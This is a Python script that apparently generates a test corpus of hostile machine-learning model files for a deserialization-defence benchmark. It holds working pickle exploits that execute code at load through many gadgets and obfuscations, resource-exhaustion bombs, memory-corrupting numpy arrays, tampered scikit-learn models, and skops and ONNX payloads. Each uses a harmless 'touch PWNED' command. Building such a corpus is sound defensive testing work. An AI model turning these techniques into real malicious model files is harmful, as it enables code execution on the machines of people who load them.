"""Writes hostile model files that do no harm.

A payload creates an empty file PWNED in the current directory, uses up memory
or time that the caller has limited, or changes a model. Each file is written
into the folder payloads/ of an empty directory.
"""

import codecs
import io
import lzma
import pickle
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path

import joblib
import numpy as np
import skops.io
from joblib.numpy_pickle import NumpyArrayWrapper
from numpy.testing import measure
from onnx import TensorProto, helper
from sklearn.linear_model import LogisticRegression
from sklearn.tree import DecisionTreeClassifier

from models import X, y

COMMAND = "touch PWNED"
CODE = "open('PWNED', 'w').close()"
PROGRAMS = {
    "attacks.json",
    "defences.py",
    "matrix.py",
    "models.py",
    "payloads.py",
    "signed_pickle.py",
    "strict_pickle.py",
    "table.py",
}


@dataclass
class Payload:
    """One hostile file.

    effect is what happens without a defence: "ran", "changed", "crashed" or
    "exhausted"; beside holds more files that must lie next to it.
    """

    name: str
    family: str
    about: str
    data: bytes
    effect: str = "ran"
    suffix: str = "pkl"
    beside: dict[str, bytes] = field(default_factory=dict)


# --- a small assembler for pickles ------------------------------------------


class Code(bytes):
    """Instructions that leave one thing on the stack."""


def put(value) -> Code:
    """Return the instructions that put a value on the stack."""
    match value:
        case Code():
            return value
        case None:
            return Code(pickle.NONE)
        case str():
            data = value.encode()
            return Code(pickle.BINUNICODE + struct.pack("<I", len(data)) + data)
        case bytes():
            return Code(pickle.BINBYTES + struct.pack("<I", len(value)) + value)
        case int():
            return Code(pickle.BININT + struct.pack("<i", value))
        case list():
            items = b"".join(map(put, value))
            return Code(
                pickle.EMPTY_LIST + pickle.MARK + items + pickle.APPENDS
            )
        case tuple():
            return Code(pickle.MARK + b"".join(map(put, value)) + pickle.TUPLE)
        case dict():
            items = [put(k) + put(v) + pickle.SETITEM for k, v in value.items()]
            return Code(pickle.EMPTY_DICT + b"".join(items))


def name(text: str) -> Code:
    """Return the instructions that import "module:name"."""
    module, _, attribute = text.partition(":")
    return Code(put(module) + put(attribute) + pickle.STACK_GLOBAL)


def call(function: str | Code, *arguments) -> Code:
    """Return the instructions that call "module:name" or what is on top."""
    function = function if isinstance(function, Code) else name(function)
    return Code(function + put(arguments) + pickle.REDUCE)


def new(kind: str, *arguments) -> Code:
    """Return the instructions that make an object, without REDUCE."""
    return Code(name(kind) + put(arguments) + pickle.NEWOBJ)


def build(thing: Code, state) -> Code:
    """Return the instructions that set the state of a thing."""
    return Code(thing + put(state) + pickle.BUILD)


def whole(body: bytes) -> bytes:
    """Return a pickle of protocol 4 with these instructions."""
    return pickle.PROTO + b"\x04" + body + pickle.STOP


EXEC = name("builtins:exec")
TOUCH = whole(call("os:system", COMMAND))
OS = call("importlib:import_module", "os")

# --- pickles that run code while they load: name, what it does, instructions -

DIRECT = [
    ("os.system", "a shell command", call("os:system", COMMAND)),
    ("posix.system", "a shell command", call("posix:system", COMMAND)),
    ("exec", "Python code as a text", call(EXEC, CODE)),
    (
        "subprocess.run",
        "another program",
        call("subprocess:run", ["touch", "PWNED"]),
    ),
    ("open", "creates a file", call("builtins:open", "PWNED", "w")),
    (
        "Path.touch",
        "creates a file, by a name with a dot",
        call("pathlib:Path.touch", call("pathlib:Path", "PWNED")),
    ),
    ("sqlite3.connect", "creates a file", call("sqlite3:connect", "PWNED")),
    (
        "ctypes",
        "the C library's own system()",
        call(
            call(
                call("operator:attrgetter", "system"), call("ctypes:CDLL", None)
            ),
            COMMAND.encode(),
        ),
    ),
]
SPACE = "types:SimpleNamespace"
OPCODES = [
    (
        "NEWOBJ",
        "tuple(map(exec, ...)), no REDUCE",
        new("builtins:tuple", new("builtins:map", EXEC, [CODE])),
    ),
    (
        "BUILD",
        "gives an object a __setstate__ of its own",
        build(build(new(SPACE), {"__setstate__": name("os:system")}), COMMAND),
    ),
    (
        "computed name",
        "the name is decoded while loading",
        call(
            Code(
                put("os")
                + call("codecs:decode", "flfgrz", "rot13")
                + pickle.STACK_GLOBAL
            ),
            COMMAND,
        ),
    ),
    (
        "extension registry",
        "registers os.system as number 66 first",
        Code(
            call("copyreg:add_extension", "os", "system", 66)
            + pickle.POP
            + call(Code(pickle.EXT1 + bytes([66])), COMMAND)
        ),
    ),
]
DETOURS = [
    (
        "getattr",
        "getattr(__import__('os'), 'system')",
        call(
            call(
                "builtins:getattr", call("builtins:__import__", "os"), "system"
            ),
            COMMAND,
        ),
    ),
    (
        "attrgetter",
        "operator.attrgetter('system')(os)",
        call(call(call("operator:attrgetter", "system"), OS), COMMAND),
    ),
    (
        "methodcaller",
        "operator.methodcaller('system', ...)(os)",
        call(call("operator:methodcaller", "system", COMMAND), OS),
    ),
    (
        "partial",
        "functools.partial(os.system, ...)()",
        call(call("functools:partial", name("os:system"), COMMAND)),
    ),
    (
        "resolve_name",
        "pkgutil.resolve_name('os:system')",
        call(call("pkgutil:resolve_name", "os:system"), COMMAND),
    ),
    (
        "coded text",
        "exec of a text in rot13",
        call(
            EXEC, call("codecs:decode", codecs.encode(CODE, "rot13"), "rot13")
        ),
    ),
    (
        "nested pickle",
        "pickle.loads of a second pickle",
        call("pickle:loads", TOUCH),
    ),
]
INTERPRETER = "code:InteractiveInterpreter"
LIBRARY = [
    ("timeit", "runs its text", call("timeit:timeit", "0", CODE)),
    ("cProfile", "runs its text", call("cProfile:run", CODE)),
    (
        "bdb",
        "the debugger runs its text",
        call("bdb:Bdb.run", call("bdb:Bdb"), CODE),
    ),
    (
        "code",
        "the interactive interpreter runs its text",
        call(f"{INTERPRETER}.runsource", call(INTERPRETER), CODE),
    ),
    (
        "pydoc",
        "the help viewer starts a shell",
        call("pydoc:pipepager", "", COMMAND),
    ),
    (
        "spawnv",
        "multiprocessing starts a program",
        call(
            "multiprocessing.util:spawnv_passfds",
            b"/bin/sh",
            [b"sh", b"-c", COMMAND.encode()],
            [1],
        ),
    ),
]
SCIENTIFIC = [
    ("numpy measure", "runs its text", call("numpy.testing:measure", CODE)),
    (
        "numpy f2py",
        "evaluates its text",
        call("numpy.f2py.crackfortran:myeval", CODE),
    ),
    ("numpy savetxt", "creates a file", call("numpy:savetxt", "PWNED", [1])),
    ("joblib dump", "creates a file", call("joblib:dump", 1, "PWNED")),
    (
        "joblib loads",
        "joblib's own name for pickle.loads",
        call("joblib.externals.loky.backend.reduction:loads", TOUCH),
    ),
    (
        "sklearn, dotted",
        "os.system, through a module that imports os",
        call("sklearn.datasets._base:os.system", COMMAND),
    ),
    (
        "sklearn, no dots",
        "attrgetter and import_module, as scikit-learn imports them",
        call(
            call(
                call("sklearn.feature_selection._base:attrgetter", "system"),
                call("sklearn.utils.discovery:import_module", "os"),
            ),
            COMMAND,
        ),
    ),
    (
        "sklearn, builtins",
        "exec, out of a module's __builtins__",
        call(
            call(
                call("sklearn.feature_extraction.text:itemgetter", "exec"),
                name("sklearn.base:__builtins__"),
            ),
            CODE,
        ),
    ),
]


def pickles():
    """Yield the Payloads whose pickle is whole and runs at load."""
    families = {
        "direct call": DIRECT,
        "other instruction": OPCODES,
        "detour": DETOURS,
        "standard library": LIBRARY,
        "scientific stack": SCIENTIFIC,
    }
    for family, payloads in families.items():
        for title, about, body in payloads:
            yield Payload(title, family, about, whole(body))


def framed():
    """Yield Payloads in old, broken or odd streams."""

    def payload(title, about, data, **more):
        return Payload(title, "framing", about, data, **more)

    old = b"cos\nsystem\n(S'touch PWNED'\ntR."
    yield payload("protocol 0", "GLOBAL, in plain text", old)
    old = b"(S'touch PWNED'\nios\nsystem\n."
    yield payload("INST", "the oldest way to call", old)
    old = b"(cos\nsystem\nS'touch PWNED'\no."
    yield payload("OBJ", "the second oldest way to call", old)
    old = b"c__builtin__\neval\n" + put((CODE,)) + b"R."
    yield payload("Python 2 name", "__builtin__ is mapped", old)
    cut = TOUCH[:-1] + b"0\xff\xff\xff"
    yield payload("broken stream", "runs, then ends in garbage", cut)
    yield payload(
        "import",
        "names a module that lies beside the file",
        whole(name("beside:x")),
        beside={"beside.py": f"{CODE}\nx = 1\n".encode()},
    )


def containers():
    """Yield Payloads in compressed files and arrays of objects."""

    def payload(title, about, data, suffix, **more):
        return Payload(title, "container", about, data, "ran", suffix, **more)

    data = zlib.compress(TOUCH)
    yield payload("joblib zlib", "compressed", data, "joblib")
    data = lzma.compress(TOUCH, format=lzma.FORMAT_ALONE)
    yield payload("joblib lzma", "compressed", data, "joblib")
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header.ljust(117) + b"\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + TOUCH
    yield payload("npy", "an array of objects", npy, "npy")
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("a.npy", npy)
    yield payload("npz", "an array of objects", archive.getvalue(), "npz")
    yes = Code(pickle.NEWTRUE)
    yield payload(
        "numpy.load",
        "loads a second file beside it",
        whole(call("numpy:load", "second.npy", None, yes)),
        "pkl",
        beside={"second.npy": TOUCH},
    )
    wrapper = NumpyArrayWrapper(np.ndarray, (1,), "C", np.dtype("O"))
    # Without its STOP, the inner pickle stands where joblib reads the array.
    data = pickle.dumps(wrapper, protocol=3)[:-1] + TOUCH + pickle.STOP
    yield payload("joblib inner", "a pickle within the pickle", data, "joblib")


def greedy():
    """Yield Payloads that use up time, memory or the stack."""

    def payload(title, about, data, effect="exhausted", suffix="pkl"):
        return Payload(title, "resources", about, data, effect, suffix)

    body = pickle.EMPTY_TUPLE + pickle.MEMOIZE
    for last in range(40):
        twice = 2 * (pickle.BINGET + bytes([last]))
        body += pickle.POP + twice + pickle.TUPLE2 + pickle.MEMOIZE
    data = whole(put({Code(body): None}))
    yield payload("hash bomb", "a dictionary key of 2**40 parts", data)
    deep = Code(pickle.EMPTY_TUPLE + pickle.TUPLE1 * 400_000)
    data = whole(put({deep: None}))
    yield payload("deep key", "a key nested 400,000 deep", data, "crashed")
    place = pickle.LONG_BINPUT + struct.pack("<I", 90_000_000)
    data = whole(pickle.NONE + place)
    yield payload("memo bomb", "9 bytes ask for over a gigabyte", data)
    data = whole(call("numpy:ones", 180_000_000))
    yield payload("numpy.ones", "an array of over a gigabyte", data)
    data = whole(call("fractions:Fraction", "1e99999999"))
    yield payload("fraction", "a number of a hundred million digits", data)
    file = io.BytesIO()
    joblib.dump(np.zeros(130_000_000), file, compress=("zlib", 1))
    about = "a small file, a gigabyte when unpacked"
    yield payload("zip bomb", about, file.getvalue(), suffix="joblib")


class Crafted:
    """Pickles as what a __reduce__ of our choice returns."""

    def __init__(self, *reduced):
        """Take the function, its arguments, and what else is to be done."""
        self.reduced = reduced

    def __reduce__(self) -> tuple:
        """Return what loading shall do."""
        return self.reduced


def semantic():
    """Yield Payloads that name what ordinary models name, and lie."""

    def payload(title, about, data, effect):
        return Payload(title, "the model itself", about, data, effect)

    model = LogisticRegression(max_iter=500).fit(X, y)
    model.coef_, model.intercept_ = -model.coef_, -model.intercept_
    data = pickle.dumps(model, protocol=5)
    yield payload("weights", "the sign of each is changed", data, "changed")
    tree = DecisionTreeClassifier(max_depth=3, random_state=0).fit(X, y)
    make, how, state = tree.tree_.__reduce__()
    state["nodes"]["left_child"][0] = state["nodes"]["right_child"][0] = 2**40

    vars(tree)["tree_"] = Crafted(make, how, state)
    data = pickle.dumps(tree, protocol=5)
    yield payload("tree", "its branches lead out of it", data, "crashed")
    rebuild = np.zeros(1).__reduce_ex__(5)[0]
    long, last = (2**43,), [(2**43 - 1, 0.0)]
    state = (3, "|", (np.dtype(float), long), None, None, 8, 1, 0)
    kind = Crafted(np.dtype, ("V8", False, True), state)
    filled = (bytearray(8), kind, long, "C"), None, None, iter(last)
    data = pickle.dumps(Crafted(rebuild, *filled), protocol=5)
    yield payload("array", "writes outside its memory", data, "crashed")
    poison = name("sklearn.gaussian_process.kernels:RBF")
    data = whole(build(poison, (None, {"__call__": None})))
    yield payload("class", "changed for the whole process", data, "changed")
    later = call(
        "sklearn.ensemble._bagging:partial",
        name("numpy.testing:measure"),
        CODE,
        1,
    )
    model = new("sklearn.linear_model._logistic:LogisticRegression")
    data = whole(build(model, {"predict": later}))
    yield payload("at predict", "loads; its predict() runs code", data, "ran")


def searches():
    """Yield a Payload that names five parts of an ordinary search."""
    scores = name("sklearn.metrics._classification:accuracy_score")
    splits = name("sklearn.model_selection._split:StratifiedKFold")
    array = name("numpy:ndarray")

    def scorer(function, method, **options):
        """A scorer calls this method of what it is given."""
        kind = "sklearn.metrics._scorer:_Scorer"
        return call(kind, function, 1, options, method)

    def model(number):
        """Return how to make a model, and how to get the same again."""
        kind = "sklearn.linear_model._logistic:LogisticRegression"
        made = build(new(kind), {"__sklearn_tags__": splits})
        again = pickle.BINGET + bytes([number])
        return Code(made + pickle.MEMOIZE), Code(again)

    first, second = model(0), model(1)
    one = {"y_true": (1,)}
    reach = scorer(scorer(array, "__setstate__"), "__getattribute__", **one)
    steps = [
        build(splits, (None, {"estimator_type": "regressor"})),
        build(scores, {"__sklearn_tags__": splits}),
        call(reach, scores, "__globals__", first[0]),
        call(reach, first[1], "__builtins__", second[0]),
        call(scorer(array, "exec"), second[1], CODE, (1,)),
    ]
    about = "a scorer calls what the file names, up to exec"
    yield Payload("scorer", "detour", about, whole(put(steps)))


def skops_files():
    """Yield Payloads in skops' format, which is not a pickle."""
    model = LogisticRegression()
    vars(model)["predict"] = partial(measure, CODE, 1)
    yield Payload(
        "skops",
        "other format",
        "its predict() runs code",
        skops.io.dumps(model),
        suffix="skops",
    )


def onnx_files():
    """Yield Payloads in ONNX, which is not a pickle."""

    def value(name, kind=TensorProto.FLOAT, shape=(None, 4)):
        return helper.make_tensor_value_info(name, kind, shape)

    def graph(node, given, made, constants=()):
        return helper.make_graph([node], "endless", given, made, constants)

    go = value("go", TensorProto.BOOL, ())
    given = [value("i", TensorProto.INT64, ()), go, value("A")]
    keep = helper.make_node("Identity", ["A"], ["B"])
    body = graph(keep, given, [go, value("B")])
    loop = helper.make_node("Loop", ["", "yes", "X"], ["Y"], body=body)
    yes = helper.make_tensor("yes", TensorProto.BOOL, [], [True])
    main = graph(loop, [value("X")], [value("Y")], [yes])
    opsets = [helper.make_opsetid("", 17)]
    model = helper.make_model(main, opset_imports=opsets, ir_version=8)
    yield Payload(
        "onnx",
        "other format",
        "its calculation never ends",
        model.SerializeToString(),
        effect="exhausted",
        suffix="onnx",
    )


def corpus() -> list[Payload]:
    """Return all payloads, built anew."""
    makers = pickles, framed, containers, greedy, semantic
    makers += searches, skops_files, onnx_files
    return [payload for make in makers for payload in make()]


def refuse_other_folders(*programs: str):
    """Stop the program unless the current directory holds these alone."""
    found = {path.name for path in Path().iterdir()} - {"__pycache__"}
    if found - PROGRAMS - set(programs):
        sys.exit(
            "This writes hostile files. Make an empty folder, put only the "
            "programs of this page into it, and run it there."
        )


if __name__ == "__main__":
    refuse_other_folders()
    for payload in corpus():
        print(f"{payload.family:18}{payload.name:19}{payload.about}")
